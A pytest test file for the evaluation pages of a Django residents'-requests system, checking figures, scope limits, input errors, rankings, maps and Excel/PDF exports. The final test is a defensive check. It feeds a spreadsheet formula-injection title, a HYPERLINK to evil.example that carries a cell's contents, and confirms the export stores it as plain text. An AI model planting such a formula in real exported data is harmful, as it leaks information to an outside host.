"""考核评价 as its users see it: figures on the pages, the requests behind them, scope, bad input, exports."""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from openpyxl import load_workbook

from minqing.org import demo as org_demo
from minqing.org.models import Area

YEAR = {"period": "year", "date": "2026-06-01"}


def client_for(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_dashboard_shows_the_hand_worked_figures_and_links_to_the_requests(week, cast) -> None:
    c = client_for(cast.duban)
    page = c.get("/evaluation/", YEAR)
    html = page.content.decode()
    assert page.status_code == 200
    assert "75.0%" in html and "响应率（联系率）" in html  # 响应率 by contact: 3 / 4 callbacks
    assert "83.3%" in html  # 按期办结率 5 / 6
    assert "83.3%" in html  # 按时签收率 10 / 12
    assert "74.00" in html  # 综合得分 100 × (0.1 × 0.75 + 0.5 × 0.75 + 0.4 × 0.725)
    charts = page.context["charts"]
    # requests, not steps: T3 resolved twice (rework) and called back twice counts once at each stage
    assert [f["value"] for f in charts["funnel"]] == [8, 5, 5, 4, 3]
    late = c.get("/evaluation/requests/", {**YEAR, "fact": "response", "only": "late"})
    numbers = {f.ticket.number for f, _ in late.context["rows"]}
    assert numbers == {week.tickets["T2"].number, week.tickets["T8"].number}
    callbacks = c.get("/evaluation/requests/", {**YEAR, "fact": "callback", "only": "dissatisfied"})
    assert [f.ticket.number for f, _ in callbacks.context["rows"]] == [week.tickets["T3"].number]


def test_each_viewer_sees_only_their_scope(week, cast) -> None:
    mine = client_for(cast.shequ).get("/evaluation/", YEAR)
    assert mine.context["total"].received == 8 and mine.context["level"] == "community"
    other = client_for(cast.shequ_b).get("/evaluation/", {**YEAR, "community": cast.community_a.pk})
    assert other.context["total"].received == 0  # B's worker asked for A: refused, shown their own
    assert "不在您的工作范围内" in other.content.decode()
    other_list = client_for(cast.shequ_b).get("/evaluation/requests/", {**YEAR, "fact": "received"})
    assert other_list.context["page"].paginator.count == 0
    unit = client_for(cast.zhujian).get("/evaluation/metrics/", YEAR)
    total = unit.context["total"]
    # 住建局: T7 only — signed in time, resolution late, no callback yet (响应率 by contact: no data).
    assert total[0][0] == "0" and total[4][0] == "—" and total[5][0] == "100.0%" and total[8][0] == "0.0%"
    assert client_for(cast.jumin).get("/evaluation/").status_code == 404


@pytest.mark.parametrize(("params", "message"), [
    ({"period": "fortnight"}, "统计周期只能是"),
    ({"period": "month", "date": "2026-13-01"}, "日期格式不对"),
    ({"period": "custom", "start": "2026-12-01", "end": "2026-11-01"}, "结束日期不能早于开始日期"),
    ({"street": "西湖"}, "所选区域或单位不存在"),
    ({"parent": "999999"}, "所选分类不存在"),
    ({"channel": "telegram"}, "所选服务品牌或渠道不存在"),
    ({"by": "weather"}, "分组方式不对"),
])
def test_bad_input_gets_a_chinese_message_and_a_page(cast, params, message) -> None:
    page = client_for(cast.duban).get("/evaluation/metrics/", params)
    assert page.status_code == 200
    assert message in page.content.decode()


def test_metrics_table_exports_to_excel(week, cast) -> None:
    response = client_for(cast.duban).get("/evaluation/metrics/", {**YEAR, "by": "unit", "format": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:6] == ("承办单位", "收到诉求", "受理", "不予受理", "合并重复", "响应率（联系率）")
    assert rows[1][0] == "合计" and rows[1][1] == 8 and rows[1][5] == 0.75  # numbers, not text
    assert sheet["F2"].number_format == "0.0%" and sheet.freeze_panes == "A2"
    assert {r[0] for r in rows[2:]} == {"瓜州路社区居委会", "区城市管理行政执法局", "区住建局"}


def test_department_ranking_with_the_period_before(week, cast) -> None:
    page = client_for(cast.duban).get("/evaluation/rankings/", {**YEAR, "level": "department", "metric": "ontime_rate"})
    rows = {r["name"]: r for r in page.context["rows"]}
    assert rows["区城市管理行政执法局"]["rank"] == 1 and rows["区城市管理行政执法局"]["value_text"] == "100.0%"
    assert rows["区住建局"]["rank"] == 2 and rows["区住建局"]["value_text"] == "0.0%"
    assert rows["区住建局"]["prev_text"] == "—" and rows["区民政局"]["rank"] is None  # nothing to measure
    assert page.context["previous"].label == "2025年"
    lower = client_for(cast.duban).get("/evaluation/rankings/", {**YEAR, "level": "department", "metric": "return_rate"})
    ranked = [r["name"] for r in lower.context["rows"] if r["rank"]]
    assert ranked == ["区住建局", "区城市管理行政执法局"]  # 0 % returned ranks above 25 %


def test_map_draws_boundaries_and_refuses_bad_ones(week, cast) -> None:
    assert org_demo.draw() > 0
    page = client_for(cast.jiedao).get("/evaluation/map/", {**YEAR, "metric": "received"})
    chart = page.context["chart"]
    names = {f["properties"]["name"] for f in chart["geojson"]["features"]}
    assert names == {"瓜州路社区", "西湖社区"}  # 西湖街道's communities
    values = {d["name"]: d["value"] for d in chart["data"]}
    assert values == {"瓜州路社区": 8, "西湖社区": 0}
    area = Area.objects.get(pk=cast.community_a.pk)
    area.boundary = {"type": "Polygon", "coordinates": [[[103.8, 36.0], [103.9, 36.0], [103.9, 36.1]]]}
    with pytest.raises(ValidationError, match="至少要有 4 个点"):
        area.full_clean()
    area.boundary = {"type": "Point", "coordinates": [103.8, 36.0]}
    with pytest.raises(ValidationError, match="Polygon 或 MultiPolygon"):
        area.full_clean()


def test_monthly_and_yearly_reports_as_pdf_and_excel(week, cast) -> None:
    c = client_for(cast.duban)
    assert "下载 PDF" in c.get("/evaluation/report/").content.decode()
    pdf = c.get("/evaluation/report/", {"period": "month", "date": "2026-12-01", "format": "pdf"})
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert b"STSong-Light" in pdf.content  # Chinese text is set in the built-in CJK font
    book = load_workbook(io.BytesIO(c.get("/evaluation/report/", {**YEAR, "format": "xlsx"}).content))
    summary = {r[0]: r[1:] for r in book["概要"].iter_rows(min_row=5, values_only=True)}
    assert summary["收到诉求"] == (8, 0) and summary["响应率（联系率）"] == (0.75, "—")
    formats = {r[0].value: r[1].number_format for r in book["概要"].iter_rows(min_row=5)}
    assert summary["综合得分"][0] == pytest.approx(74.0) and formats["综合得分"] == "0.00"
    assert formats["响应率（联系率）"] == "0.0%"
    assert [r[0] for r in book["按街道"].iter_rows(min_row=2, values_only=True)] == ["西湖街道"]
    assert book["走势"]._charts and book["综合得分图"]._charts  # native Excel charts
    trend = list(book["走势"].iter_rows(min_row=2, values_only=True))
    assert sum(r[1] for r in trend) == 8 and len(trend) == 12  # a year by month
    mine = load_workbook(io.BytesIO(client_for(cast.shequ).get(
        "/evaluation/report/", {**YEAR, "format": "xlsx"}).content))
    assert mine["概要"]["A1"].value == "瓜州路社区民情工作年报"


@pytest.mark.parametrize("url", ["/evaluation/", "/evaluation/map/", "/evaluation/rankings/", "/evaluation/metrics/",
                                 "/evaluation/requests/"])
def test_every_table_downloads_as_excel(week, cast, url) -> None:
    org_demo.draw()
    response = client_for(cast.duban).get(url, {**YEAR, "format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    assert book.worksheets and book.worksheets[0].max_row > 1


def test_the_requests_export_never_writes_a_residents_text_as_a_formula(cast) -> None:
    from django.utils import timezone

    from minqing.conftest import settle

    attack = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
    cast.new_ticket(title=attack, text="3号楼前面的路灯坏了快一个月了。")
    cast.new_ticket(title="-1+1 楼道灯", text="楼道灯坏了。")
    settle()
    today = timezone.localdate()
    r = client_for(cast.duban).get("/evaluation/requests/", {"period": "month", "date": today.isoformat(),
                                                             "fact": "received", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(r.content)).active
    titles = {c.value: c for c in sheet["C"][1:]}
    assert set(titles) == {attack, "-1+1 楼道灯"}  # the text as the resident wrote it
    assert all(c.data_type == "s" and c.quotePrefix for c in titles.values())  # text, never a formula
    assert sheet["A2"].is_date and sheet.freeze_panes == "A2"
